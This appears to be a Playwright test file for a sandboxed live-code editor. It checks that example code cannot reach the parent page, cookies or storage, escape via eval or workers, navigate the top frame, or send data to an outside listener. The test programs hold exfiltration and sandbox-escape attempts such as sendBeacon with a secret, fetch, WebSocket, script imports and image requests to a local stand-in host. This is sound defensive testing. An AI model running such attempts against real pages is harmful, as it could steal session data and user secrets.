// What code in a live example tries in order to get out, and how far it comes. Each test runs real code in a real browser.
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { expectUsable, openEditor, runProgram } from '../../live-steps.ts';
import { expect, test } from '../../site-test.ts';

/** A place outside the site that notes what comes. */
interface Listener {
  readonly origin: string;
  /** Paths that were asked for. A browser may open a connection ahead and ask for nothing. */
  readonly visits: readonly string[];
  readonly close: () => Promise<void>;
}

async function listenOutside(): Promise<Listener> {
  const visits: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    visits.push(url);
    response.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    origin: `127.0.0.1:${port}`,
    visits,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

/**
 * Nothing of what the code tried came to the listener: a request that another tab makes afterwards is the
 * first one there.
 */
async function expectNoVisit(page: Page, { origin, visits }: Listener): Promise<void> {
  const other = await page.context().newPage();
  // An empty answer is no page.
  await other.goto(`http://${origin}/last`).catch(() => undefined);
  await other.close();
  expect(visits).toEqual(['/last']);
}

test('no access to the page, the storage or more rights', async ({ page, context }) => {
  await context.addCookies([{ name: 'session', value: 'secret', url: 'http://localhost' }]);
  const block = await openEditor(page);
  await page.evaluate(() => localStorage.setItem('secret', 'secret'));
  await runProgram(
    block,
    `const tries: Record<string, () => unknown> = {
  parent: () => parent.document.title,
  top: () => (top!.document.title = 'hacked'),
  location: () => parent.location.href,
  localStorage: () => localStorage.getItem('secret'),
  sessionStorage: () => sessionStorage.length,
  cookie: () => document.cookie,
  eval: () => (0, eval)('1'),
  Function: () => new Function('return 1')(),
  timeout: () => setTimeout('parent.postMessage(1, "*")', 0) && 'ignored',
  blob: () => URL.createObjectURL(new Blob(['1'])),
  rtc: () => new RTCPeerConnection(),
  inner: () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return new (frame.contentWindow as any).RTCPeerConnection();
  },
  popup: () => String(open('https://example.com/')),
  dialog: () => String(confirm('Password?')),
  origin: () => origin,
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    console.log(name, attempt());
  } catch (error) {
    console.log(name, 'refused:', (error as Error).name);
  }
}`,
  );
  await expect(block.lines).toHaveText([
    'parent refused: SecurityError',
    'top refused: SecurityError',
    'location refused: SecurityError',
    'localStorage refused: SecurityError',
    'sessionStorage refused: SecurityError',
    'cookie refused: SecurityError',
    'eval refused: EvalError',
    'Function refused: EvalError',
    /^timeout /,
    'blob refused: TypeError',
    'rtc refused: ReferenceError',
    'inner refused: SecurityError',
    'popup null',
    'dialog false',
    'origin null',
  ]);
  expect(context.pages()).toHaveLength(1);
  await expectUsable(page);
});

test('a program in the worker has no more rights than one in the frame', async ({ page }) => {
  const outside = await listenOutside();
  try {
    const block = await openEditor(page);
    await runProgram(
      block,
      `const scope: any = globalThis;
const outside = '${outside.origin}';
const hasStarted = (worker: Worker) => new Promise((resolve, reject) => {
  worker.onmessage = resolve;
  worker.onerror = () => reject(new Error('no worker'));
});
const tries: Record<string, () => unknown> = {
  document: () => scope['document'].title,
  forge: () => scope['postMessage']({ kind: 'done' }),
  blob: () => URL.createObjectURL(new Blob(['1'])),
  eval: () => (0, eval)('1'),
  database: () => indexedDB.open('a'),
  again: () => hasStarted(new Worker(scope['location'].href)),
  data: () => hasStarted(new Worker('data:text/javascript,postMessage(1)')),
  scripts: () => scope['importScripts']('http://' + outside + '/script.js'),
  module: () => import('http://' + outside + '/module.js' as string),
  fetch: () => fetch('http://' + outside + '/fetch'),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://' + outside + '/socket');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await attempt();
    console.log(name, 'came through');
  } catch {
    console.log(name, 'refused');
  }
}`,
    );
    const names = ['document', 'forge', 'blob', 'eval', 'database', 'again', 'data'];
    const requests = ['scripts', 'module', 'fetch', 'socket'];
    await expect(block.lines).toHaveText([...names, ...requests].map((name) => `${name} refused`));
    await expectNoVisit(page, outside);
  } finally {
    await outside.close();
  }
});

test('no request leaves: neither to the site nor to any other place', async ({ page, baseURL }) => {
  const outside = await listenOutside();
  const answers: string[] = [];
  try {
    const block = await openEditor(page);
    await runProgram(block, 'console.log("warm");');
    await expect(block.lines).toHaveText(['warm']);
    // Not requests: the browser reports those, too, that the policy keeps from being sent.
    page.on('response', (response) => answers.push(response.url()));
    await runProgram(
      block,
      `const outside = '${outside.origin}';
const site = '${baseURL}/vibe/docs/getting-started/intro';
const add = (name: string, facts: object) => {
  document.body.append(Object.assign(document.createElement(name), facts));
};
const tries: Record<string, () => unknown> = {
  fetch: () => fetch('http://' + outside + '/fetch'),
  site: () => fetch(site),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open('GET', 'http://' + outside + '/xhr');
    request.send();
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://' + outside + '/socket');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  events: () => new Promise((resolve, reject) => {
    const events = new EventSource('http://' + outside + '/events');
    events.onopen = resolve;
    events.onerror = reject;
  }),
  image: () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = reject;
    image.src = 'http://' + outside + '/image?secret';
  }),
  module: () => import('http://' + outside + '/module.js' as string),
};
navigator.sendBeacon('http://' + outside + '/beacon', 'secret');
add('script', { src: 'http://' + outside + '/script.js' });
add('iframe', { src: 'http://' + outside + '/frame' });
add('object', { data: 'http://' + outside + '/object' });
add('video', { src: 'http://' + outside + '/video' });
add('link', { rel: 'stylesheet', href: 'http://' + outside + '/style.css' });
add('link', { rel: 'prefetch', href: 'http://' + outside + '/prefetch' });
add('link', { rel: 'preload', as: 'image', href: 'http://' + outside + '/preload' });
add('style', { textContent: '@import "http://' + outside + '/import.css"' });
const form = Object.assign(document.createElement('form'), { action: 'http://' + outside });
document.body.append(form);
form.submit();
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await attempt();
    console.log(name, 'came through');
  } catch {
    console.log(name, 'refused');
  }
}`,
    );
    const names = ['fetch', 'site', 'xhr', 'socket', 'events', 'image', 'module'];
    await expect(block.lines).toHaveText(names.map((name) => `${name} refused`));
    await expectNoVisit(page, outside);
    const isOwn = (url: string) => /\/assets\/live\/frame-|^blob:/.test(url);
    expect(answers.filter((url) => !isOwn(url))).toEqual([]);
  } finally {
    await outside.close();
  }
});

for (const [name, code] of [
  ['the page above', (to: string) => `top!.location.href = '${to}';`],
  [
    'the page above by a link',
    (to: string) =>
      `const a = Object.assign(document.createElement('a'), { href: '${to}', target: '_top' }); document.body.append(a); a.click();`,
  ],
] as const) {
  test(`cannot navigate ${name}`, async ({ page }) => {
    const outside = await listenOutside();
    try {
      const block = await openEditor(page);
      const address = page.url();
      await runProgram(block, code(`http://${outside.origin}/top`));
      await expect(block.status).toContainText(/SecurityError|Done/);
      await expectNoVisit(page, outside);
      expect(page.url()).toBe(address);
    } finally {
      await outside.close();
    }
  });
}

for (const [name, target] of [
  ['elsewhere', (outside: string) => `http://${outside}/self?secret`],
  ['to a page of the site', () => '/vibe/docs/getting-started/intro'],
] as const) {
  test(`a frame that goes ${name} is removed`, async ({ page }) => {
    const outside = await listenOutside();
    try {
      const block = await openEditor(page);
      await runProgram(block, `location.href = '${target(outside.origin)}';`);
      await expect(block.status).toHaveText('Stopped: the code tried to leave its frame.');
      await expect(block.frame).toHaveCount(0);
      await expectNoVisit(page, outside);
      await expectUsable(page);
    } finally {
      await outside.close();
    }
  });
}
